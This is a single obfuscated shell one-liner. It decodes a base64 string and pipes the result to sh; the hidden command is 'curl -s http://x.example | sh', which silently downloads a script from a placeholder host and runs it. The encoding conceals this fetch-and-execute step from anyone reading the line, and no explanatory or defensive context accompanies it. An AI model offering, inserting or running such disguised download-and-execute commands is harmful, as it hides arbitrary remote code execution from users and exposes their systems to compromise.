echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlIHwgc2g= | base64 -d | sh
